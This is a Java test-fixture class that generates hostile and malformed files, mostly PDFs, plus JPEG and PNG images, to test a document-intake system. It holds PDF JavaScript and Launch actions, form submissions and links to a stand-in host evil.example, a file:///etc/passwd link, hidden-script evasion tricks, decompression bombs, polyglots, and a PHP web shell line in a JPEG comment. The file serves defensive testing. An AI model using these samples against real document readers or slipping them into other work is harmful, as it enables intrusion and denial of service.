package recognition.examination;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

import recognition.domain.document.Document.Type;

/** Files that are not to be taken, each made anew from a seed: nothing of the kind is kept in the house. */
final class Hostile {
    private static final Random RANDOM = new Random(20251130);
    private static final byte[] EXE = ascii("MZ\u0090\0\3 This program cannot be run in DOS mode");
    private static final byte[] HTML = ascii("<!DOCTYPE html><script>alert(1)</script>");

    private final Map<String, File> files = new LinkedHashMap<>();

    /** A file, and the type its name claims; made when it is looked at. */
    record File(Type type, Supplier<byte[]> bytes) {}

    static Map<String, File> files() {
        var all = new Hostile();
        all.actions();
        all.hiddenActions();
        all.attachments();
        all.links();
        all.locked();
        all.broken();
        all.bombs();
        all.secondFiles();
        all.otherTypes();
        all.images();
        return all.files;
    }

    private void pdf(String name, Supplier<byte[]> bytes) {
        add(name, Type.PDF, bytes);
    }

    private void add(String name, Type type, Supplier<byte[]> bytes) {
        if (files.put(type + ": " + name, new File(type, bytes)) != null) {
            throw new IllegalStateException("twice: " + name);
        }
    }

    /** Every kind of action that reaches out of the page, in every place an action can stand. */
    private void actions() {
        var actions = Map.ofEntries(Map.entry("script", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
                Map.entry("program", "<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>"),
                Map.entry("other document", "<</S/GoToR/F(other.pdf)/D[0/Fit]>>"),
                Map.entry("attached document", "<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>"),
                Map.entry("form sent", "<</S/SubmitForm/F(http://evil.example/)/Flags 4>>"),
                Map.entry("data read", "<</S/ImportData/F(data.fdf)>>"),
                Map.entry("film", "<</S/Movie/T(film)>>"), Map.entry("sound", "<</S/Sound/Sound 9 0 R>>"),
                Map.entry("rendition", "<</S/Rendition/OP 0>>"),
                Map.entry("rich media", "<</S/RichMediaExecute/CMD<</C(play)>>>>"),
                Map.entry("field hidden", "<</S/Hide/T(field)/H true>>"),
                Map.entry("named print", "<</S/Named/N/Print>>"), Map.entry("named save", "<</S/Named/N/SaveAs>>"),
                Map.entry("three dimensions", "<</S/GoTo3DView/V/F>>"));
        actions.forEach((name, action) -> {
            pdf(name + " on opening", () -> Pdfs.with("/OpenAction" + action).bytes());
            pdf(name + " on closing", () -> Pdfs.with("/AA<</WC" + action + ">>").bytes());
            pdf(name + " on a page", () -> Pdfs.page("", "/AA<</O" + action + ">>").bytes());
            pdf(name + " in a link", () -> Pdfs
                    .page("", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A" + action + ">>]").bytes());
            pdf(name + " after another", () -> Pdfs
                    .with("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[" + action + "]>>").bytes());
        });
    }

    private void hiddenActions() {
        var script = "<</S/JavaScript/JS(x)>>";
        pdf("script with an escaped name", () -> Pdfs.with("/OpenAction<</S/J#61vaScr#69pt/J#53(x)>>").bytes());
        pdf("script behind references",
                () -> Pdfs.with("/OpenAction 4 0 R").object("5 0 R").object("<</S 6 0 R/JS 7 0 R>>")
                        .object("/JavaScript").object("(x)").bytes());
        pdf("script in a stream",
                () -> Pdfs.with("/OpenAction<</S/JavaScript/JS 4 0 R>>").stream("", ascii("app.alert(1)")).bytes());
        pdf("script in the tree of names",
                () -> Pdfs.with("/Names<</JavaScript<</Names[(a)" + script + "]>>>>").bytes());
        pdf("script nobody leads to", () -> Pdfs.with("").object(script).bytes());
        pdf("script in an object no table lists", () -> {
            var whole = new String(Pdfs.with("").bytes(), StandardCharsets.ISO_8859_1);
            return latin1(whole.replace("xref\n0", "9 0 obj" + script + "endobj\nxref\n0")
                    .replaceFirst("startxref\n(\\d+)", "startxref\n" + (whole.indexOf("xref\n0") + 36)));
        });
        pdf("script in an object stream", () -> objectStream(script));
        pdf("script in a field", () -> Pdfs
                .with("/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K" + script + ">>>>]>>").bytes());
        pdf("script in an outline", () -> Pdfs.with("/Outlines<</First<</Title(a)/A" + script + ">>>>").bytes());
        pdf("script added later", () -> appended(Pdfs.with("").bytes(),
                "1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction" + script + ">>\nendobj\n"));
        pdf("program in upper folders", () -> Pdfs.with("/OpenAction<</S/Launch/F(../../../x.sh)>>").bytes());
        pdf("page in another file",
                () -> Pdfs.page("", "/Contents 4 0 R").stream("/F(http://evil.example/a)", new byte[0])
                        .bytes());
        pdf("page that refers to another file", () -> Pdfs.page("", "/Resources<</XObject<</X 4 0 R>>>>")
                .stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a.pdf)/Page 0>>", new byte[0]).bytes());
        pdf("PostScript", () -> Pdfs.page("", "/Resources<</XObject<</X 4 0 R>>>>")
                .stream("/Type/XObject/Subtype/PS", ascii("quit")).bytes());
        for (var kind : List.of("RichMedia", "Movie", "Sound", "Screen", "3D")) {
            pdf(kind + " on a page",
                    () -> Pdfs.page("", "/Annots[<</Type/Annot/Subtype/" + kind + "/Rect[0 0 9 9]>>]").bytes());
        }
        pdf("dynamic form", () -> Pdfs.with("/AcroForm<</Fields[]/XFA(<xdp/>)>>").bytes());
        pdf("dynamic form in parts",
                () -> Pdfs.with("/AcroForm<</Fields[]/XFA[(template)4 0 R]>>").stream("", ascii("<t/>")).bytes());
        pdf("form that needs a program", () -> Pdfs.with("/NeedsRendering true").bytes());
    }

    private static byte[] objectStream(String object) {
        var head = "4 0 ";
        var packed = Pdfs.deflated(latin1(head + object));
        var body = new String(Pdfs.with("/OpenAction 4 0 R").bytes(), StandardCharsets.ISO_8859_1);
        var out = new ByteArrayOutputStream();
        out.writeBytes(latin1(body.substring(0, body.indexOf("xref\n"))));
        int stream = out.size();
        out.writeBytes(latin1("5 0 obj\n<</Type/ObjStm/N 1/First " + head.length() + "/Filter/FlateDecode/Length "
                + packed.length + ">>stream\n"));
        out.writeBytes(packed);
        out.writeBytes(latin1("\nendstream\nendobj\n"));
        int table = out.size();
        var rows = ByteBuffer.allocate(7 * 5);
        row(rows, 0, 0, 255);
        for (int i = 1; i <= 3; i++) {
            row(rows, 1, body.indexOf("\n" + i + " 0 obj") + 1, 0);
        }
        row(rows, 2, 5, 0);
        row(rows, 1, stream, 0);
        row(rows, 1, table, 0);
        out.writeBytes(latin1("6 0 obj\n<</Type/XRef/Size 7/W[1 3 1]/Root 1 0 R/Length 35>>stream\n"));
        out.writeBytes(rows.array());
        out.writeBytes(latin1("\nendstream\nendobj\nstartxref\n" + table + "\n%%EOF\n"));
        return out.toByteArray();
    }

    private static void row(ByteBuffer rows, int type, int second, int third) {
        rows.put((byte) type).put((byte) (second >> 16)).put((byte) (second >> 8)).put((byte) second)
                .put((byte) third);
    }

    /** Another version of an object, behind the whole file, as an editor appends it. */
    private static byte[] appended(byte[] file, String object) {
        var before = new String(file, StandardCharsets.ISO_8859_1);
        int at = file.length;
        int table = at + object.length();
        return latin1(before + object
                + "xref\n1 1\n%010d 00000 n \ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
                        .formatted(at, before.lastIndexOf("xref\n0"), table));
    }

    private void attachments() {
        var file = "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>";
        pdf("attachment in the tree of names",
                () -> Pdfs.with("/Names<</EmbeddedFiles<</Names[(a)" + file + "]>>>>")
                        .stream("/Type/EmbeddedFile", EXE).bytes());
        pdf("attachment on a page", () -> Pdfs
                .page("", "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS" + file + ">>]")
                .stream("", EXE).bytes());
        pdf("associated file", () -> Pdfs.with("/AF[" + file + "]").stream("", EXE).bytes());
        pdf("portfolio", () -> Pdfs.with("/Collection<</Type/Collection>>").bytes());
        pdf("attachment nobody leads to", () -> Pdfs.with("").stream("/Type/EmbeddedFile", EXE).bytes());
        pdf("attachment with an escaped name", () -> Pdfs.with("").stream("/Type/Embedded#46ile", EXE).bytes());
    }

    private void links() {
        for (var link : List.of("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "vbscript:x",
                "smb://evil.example/share", "ms-word:ofe|u|http://evil.example/a.doc", " JaVaScRiPt:x")) {
            pdf("link to " + link, () -> Pdfs.page("",
                    "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(" + link + ")>>>>]").bytes());
        }
        pdf("base of all links", () -> Pdfs.with("/URI<</Base(javascript:)>>").bytes());
    }

    private void locked() {
        for (int bits : new int[]{40, 128, 256}) {
            pdf("password of " + bits + " bits", () -> locked("owner", "reader", bits));
            pdf("restrictions of " + bits + " bits", () -> locked("owner", "", bits));
        }
    }

    private static byte[] locked(String owner, String reader, int bits) {
        try (var document = Loader.loadPDF(Pdfs.with("").bytes())) {
            var policy = new StandardProtectionPolicy(owner, reader, new AccessPermission());
            policy.setEncryptionKeyLength(bits);
            document.protect(policy);
            var out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void broken() {
        for (int part : new int[]{20, 40, 60, 80, 95}) {
            pdf("cut at " + part + " %", () -> cut(Honest.manyPages(3, 5), part));
        }
        pdf("noise behind the beginning", () -> joined(ascii("%PDF-1.7\n"), noise(50_000)));
        pdf("noise with an end", () -> joined(ascii("%PDF-1.7\n"), noise(5_000), ascii("startxref\n9\n%%EOF\n")));
        pdf("no page", () -> new Pdfs().object(Pdfs.CATALOG).object("<</Type/Pages/Kids[]/Count 0>>").bytes());
        pdf("no root", () -> new Pdfs().object("<</Type/Font>>").bytes());
        pdf("table elsewhere", () -> latin1(new String(Pdfs.with("").bytes(), StandardCharsets.ISO_8859_1)
                .replaceFirst("startxref\n\\d+", "startxref\n12")));
        pdf("table behind the end", () -> latin1(new String(Pdfs.with("").bytes(), StandardCharsets.ISO_8859_1)
                .replaceFirst("startxref\n\\d+", "startxref\n99999999")));
        pdf("nothing but a beginning", () -> ascii("%PDF-1.7\n"));
        pdf("end far before the end", () -> joined(Pdfs.with("").bytes(), new byte[5_000]));
    }

    private void bombs() {
        pdf("page of a gigabyte", () -> Pdfs.page("", "/Contents 4 0 R")
                .stream("/Filter/FlateDecode", Pdfs.BOMB).bytes());
        pdf("packed twice", () -> Pdfs.page("", "/Contents 4 0 R")
                .stream("/Filter[/FlateDecode/FlateDecode]", Pdfs.deflated(Pdfs.BOMB)).bytes());
        pdf("many of them", () -> {
            var file = Pdfs.page("", "/Contents 4 0 R");
            var part = Pdfs.bomb(100L << 20);
            for (int i = 0; i < 8; i++) {
                file.stream("/Filter/FlateDecode", part);
            }
            return file.bytes();
        });
        pdf("object stream of a gigabyte",
                () -> Pdfs.with("").stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", Pdfs.BOMB).bytes());
        pdf("image of ten billion points", () -> Pdfs.page("", "/Resources<</XObject<</X 4 0 R>>>>")
                .stream("/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray",
                        new byte[9])
                .bytes());
        pdf("thousands of pages", () -> Honest.manyPages(501, 0));
        pdf("pages in a ring", () -> new Pdfs().object(Pdfs.CATALOG)
                .object("<</Type/Pages/Kids[2 0 R]/Count 1>>").bytes());
        pdf("arrays without end", () -> Pdfs.with("/X" + "[".repeat(500_000)).bytes());
        pdf("dictionaries without end", () -> Pdfs.with("/X" + "<</X".repeat(200_000)).bytes());
    }

    private void secondFiles() {
        var zip = zip();
        var jpeg = Images.jpeg(Images.page(300, 400, BufferedImage.TYPE_3BYTE_BGR, 1), false);
        var png = Images.png(Images.page(300, 400, BufferedImage.TYPE_3BYTE_BGR, 1));
        var pdf = Pdfs.with("").bytes();
        for (var second : Map.of("archive", zip, "program", EXE, "page", HTML, "PDF", pdf).entrySet()) {
            if (!second.getKey().equals("PDF")) {
                pdf("with a " + second.getKey() + " behind it", () -> joined(pdf, second.getValue()));
            }
            add("with a " + second.getKey() + " behind it", Type.JPEG, () -> joined(jpeg, second.getValue()));
            add("with a " + second.getKey() + " behind it", Type.PNG, () -> joined(png, second.getValue()));
        }
        pdf("archive around it", () -> {
            var end = Arrays.copyOfRange(zip, zip.length - 22, zip.length);
            end[20] = (byte) 100;
            return joined(ascii("%PDF-1.7\n%"), Arrays.copyOf(zip, zip.length - 22), end, new byte[100]);
        });
        pdf("page in its first line", () -> joined(ascii("%PDF-1.7 "), HTML, Arrays.copyOfRange(pdf, 8, pdf.length)));
        add("page in a comment", Type.JPEG, () -> Images.withSegment(jpeg, 0xfe, HTML));
        add("script in a comment", Type.JPEG,
                () -> Images.withSegment(jpeg, 0xfe, ascii("<?php system($_GET[0]); ?>")));
        add("page in a text", Type.PNG, () -> Images.withChunk(png, "tEXt", joined(ascii("Comment\0"), HTML)));
    }

    private void otherTypes() {
        var jpeg = Images.jpeg(Images.page(30, 40, BufferedImage.TYPE_3BYTE_BGR, 1), false);
        var others = Map.of("program", EXE, "Linux program", ascii("\u007fELF\2\1\1"), "page", HTML, "archive", zip(),
                "GIF", ascii("GIF89a\1\0\1\0"), "TIFF", ascii("II*\0\u0008\0\0\0"), "BMP", ascii("BM6\0\0\0"),
                "drawing", ascii("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
                "old Word file", ascii("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"), "EICAR",
                ascii("X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"));
        for (var type : Type.values()) {
            others.forEach((name, bytes) -> add(name, type, () -> bytes));
            add("nothing", type, () -> new byte[0]);
            add("one byte", type, () -> new byte[]{0x25});
        }
        add("JPEG", Type.PNG, () -> jpeg);
        add("JPEG", Type.PDF, () -> jpeg);
        add("PDF", Type.JPEG, () -> Pdfs.with("").bytes());
    }

    private void images() {
        var jpeg = Images.jpeg(Images.page(800, 1_100, BufferedImage.TYPE_3BYTE_BGR, 2), false);
        var png = Images.png(Images.page(800, 1_100, BufferedImage.TYPE_3BYTE_BGR, 2));
        for (int part : new int[]{10, 50, 90}) {
            add("cut at " + part + " %", Type.JPEG, () -> cut(jpeg, part));
            add("cut at " + part + " %", Type.PNG, () -> cut(png, part));
        }
        add("cut, with an end", Type.JPEG, () -> joined(cut(jpeg, 50), new byte[]{(byte) 0xff, (byte) 0xd9}));
        add("noise", Type.JPEG, () -> joined(new byte[]{(byte) 0xff, (byte) 0xd8, (byte) 0xff}, noise(9_000)));
        add("noise", Type.PNG, () -> joined(Arrays.copyOf(png, 8), noise(9_000)));
        add("four billion points", Type.JPEG, () -> sized(jpeg, 65_535, 65_535));
        add("too many points", Type.JPEG, () -> sized(jpeg, 6_001, 6_000));
        add("no points", Type.JPEG, () -> sized(jpeg, 0, 100));
        add("a thousand scans", Type.JPEG, () -> scans(1_000));
        add("four colors", Type.JPEG, () -> colors(jpeg));
        add("four billion points", Type.PNG,
                () -> Images.pngOf(65_535, 65_535, 8, 2, Pdfs.bomb(100L << 20)));
        add("too many points", Type.PNG, () -> Images.pngOf(6_001, 6_000, 1, 0, Pdfs.deflated(new byte[4_600_000])));
        add("no points", Type.PNG, () -> Images.pngOf(0, 10, 8, 2, Pdfs.deflated(new byte[9])));
        add("fewer data than points", Type.PNG, () -> Images.pngOf(2_000, 2_000, 8, 2, Pdfs.deflated(new byte[900])));
        add("a color type there is not", Type.PNG, () -> Images.pngOf(9, 9, 8, 5, Pdfs.deflated(new byte[900])));
        add("a chunk that lies of its length", Type.PNG, () -> {
            var changed = png.clone();
            ByteBuffer.wrap(changed).putInt(33, Integer.MAX_VALUE);
            return changed;
        });
        add("a chunk that is changed", Type.PNG, () -> {
            var changed = png.clone();
            changed[100] ^= 1;
            return changed;
        });
        add("a chunk every reader must know", Type.PNG, () -> Images.withChunk(png, "EVIL", new byte[9]));
    }

    /** The same picture, said to be of another size. */
    private static byte[] sized(byte[] jpeg, int width, int height) {
        var changed = jpeg.clone();
        int frame = frame(changed);
        ByteBuffer.wrap(changed).putShort(frame + 5, (short) height).putShort(frame + 7, (short) width);
        return changed;
    }

    private static byte[] colors(byte[] jpeg) {
        var changed = jpeg.clone();
        changed[frame(changed) + 9] = 4;
        return changed;
    }

    private static int frame(byte[] jpeg) {
        for (int at = 2; at < jpeg.length - 9; at++) {
            if (jpeg[at] == (byte) 0xff && (jpeg[at + 1] == (byte) 0xc0 || jpeg[at + 1] == (byte) 0xc2)) {
                return at;
            }
        }
        throw new IllegalStateException("no frame");
    }

    /** A progressive picture whose last scan stands in it again and again. */
    private static byte[] scans(int times) {
        var jpeg = Images.jpeg(Images.page(200, 300, BufferedImage.TYPE_3BYTE_BGR, 3), true);
        int last = jpeg.length - 2;
        while (jpeg[last] != (byte) 0xff || jpeg[last + 1] != (byte) 0xda) {
            last--;
        }
        var out = new ByteArrayOutputStream();
        out.write(jpeg, 0, last);
        for (int i = 0; i < times; i++) {
            out.write(jpeg, last, jpeg.length - 2 - last);
        }
        out.write(jpeg, jpeg.length - 2, 2);
        return out.toByteArray();
    }

    private static byte[] zip() {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("run.js"));
            zip.write(ascii("WScript.Shell"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] cut(byte[] file, int percent) {
        return Arrays.copyOf(file, (int) ((long) file.length * percent / 100));
    }

    private static byte[] noise(int length) {
        var noise = new byte[length];
        RANDOM.nextBytes(noise);
        return noise;
    }

    static byte[] joined(byte[]... parts) {
        var out = new ByteArrayOutputStream();
        Arrays.stream(parts).forEach(out::writeBytes);
        return out.toByteArray();
    }

    static byte[] ascii(String text) {
        return latin1(text);
    }

    private static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
